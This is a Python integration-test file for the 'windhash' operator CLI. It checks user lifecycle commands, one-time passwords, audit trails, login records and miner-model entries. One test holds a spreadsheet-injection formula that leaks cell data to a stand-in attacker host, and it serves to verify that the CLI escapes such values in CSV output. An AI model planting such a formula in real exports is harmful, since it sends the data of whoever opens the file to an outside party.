"""`windhash users` and `windhash audit` as an operator runs them (subprocesses, connected as the operator's
database role): the first owner with a one-time password printed once, suspension, access, sessions, and the
audit trail and login records readable at the shell; a model added at the shell is audited too."""

import csv
import io
import os
import subprocess

import asyncpg
import pytest
from windhash_cli.service_processes import WINDHASH
from windhash_common.accounts.passwords import verify_password
from windhash_common.db_roles import DatabaseRole, dsn_as

pytestmark = pytest.mark.integration


def windhash(pg_dsn: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "WINDHASH_DATABASE_URL": dsn_as(pg_dsn, DatabaseRole.OPERATOR), "COLUMNS": "200"}
    return subprocess.run([*WINDHASH, *args], env=env, capture_output=True, text=True, timeout=300)


def rows(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output)))


async def test_the_first_owner_and_the_account_lifecycle_from_the_shell(pg_dsn: str) -> None:
    added = windhash(pg_dsn, "users", "add", "Founder@Example.com", "--role", "owner", "--name", "Founder")
    assert added.returncode == 0, added.stderr
    one_time = added.stdout.split("one-time password: ")[1].split()[0]
    superuser = await asyncpg.connect(pg_dsn)
    try:
        stored = await superuser.fetchrow("SELECT * FROM users WHERE email = 'founder@example.com'")
        assert verify_password(stored["password_hash"], one_time) and stored["must_change_password"]
        assert one_time not in stored["password_hash"]
        client = windhash(pg_dsn, "users", "add", "c@acme.example", "--role", "client", "--client", "Acme")
        assert client.returncode == 0, client.stderr
        assert windhash(pg_dsn, "users", "add", "x@y.example", "--role", "client").returncode == 2
        assert windhash(pg_dsn, "users", "add", "founder@example.com", "--role", "user").returncode == 2
        assert windhash(pg_dsn, "users", "suspend", "c@acme.example").returncode == 0
        assert windhash(pg_dsn, "users", "revoke", "founder@example.com").returncode == 0
        listed = {row["email"]: row for row in rows(windhash(pg_dsn, "users", "list", "--csv").stdout)}
        assert listed["c@acme.example"]["status"] == "suspended"
        assert listed["founder@example.com"]["may act now"] == "False"
        assert (
            windhash(pg_dsn, "users", "grant", "founder@example.com", "--until", "2099-01-01").returncode == 0
        )
        listed = {row["email"]: row for row in rows(windhash(pg_dsn, "users", "list", "--csv").stdout)}
        assert listed["founder@example.com"]["may act now"] == "True"
        reset = windhash(pg_dsn, "users", "reset-password", "founder@example.com")
        assert reset.returncode == 0 and "one-time password for founder@example.com:" in reset.stdout
        assert windhash(pg_dsn, "users", "sessions", "founder@example.com", "--revoke").returncode == 0
        trail = rows(windhash(pg_dsn, "audit", "log", "--csv", "--limit", "50").stdout)
        actions = [row["action"] for row in trail]
        for action in ("user.create", "client.create", "access.grant", "access.revoke", "user.update"):
            assert action in actions
        assert all(row["actor"].startswith("cli:") for row in trail)
        assert one_time not in str(trail)
        assert windhash(pg_dsn, "audit", "logins", "--csv").returncode == 0
        pruned = windhash(pg_dsn, "audit", "prune-logins", "--older-than-days", "30")
        assert pruned.returncode == 0 and "deleted 0 login records" in pruned.stdout
    finally:
        await superuser.close()


def test_csv_at_the_shell_never_hands_a_spreadsheet_a_formula(pg_dsn: str) -> None:
    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
    added = windhash(pg_dsn, "users", "add", "eve@example.com", "--role", "user", "--name", hostile)
    assert added.returncode == 0, added.stderr
    listed = {row["email"]: row for row in rows(windhash(pg_dsn, "users", "list", "--csv").stdout)}
    assert listed["eve@example.com"]["name"] == "'" + hostile  # shown as text, never run (OWASP)
    trail = rows(windhash(pg_dsn, "audit", "log", "--csv", "--action", "user.create").stdout)
    assert trail and not any(cell.startswith("=") for row in trail for cell in row.values())


async def test_a_model_added_at_the_shell_is_in_the_audit_trail(pg_dsn: str) -> None:
    added = windhash(
        pg_dsn,
        "miners",
        "add",
        "S23_TEST",
        "--manufacturer",
        "Bitmain",
        "--hashrate-ths",
        "300",
        "--power-w",
        "3500",
    )
    assert added.returncode == 0, added.stdout + added.stderr
    trail = rows(windhash(pg_dsn, "audit", "log", "--csv", "--action", "miner-model.add").stdout)
    assert [(row["target_type"], row["target_id"]) for row in trail] == [("miner-model", "S23_TEST")]
    assert '"hashrate_ths": "300"' in trail[0]["after"]
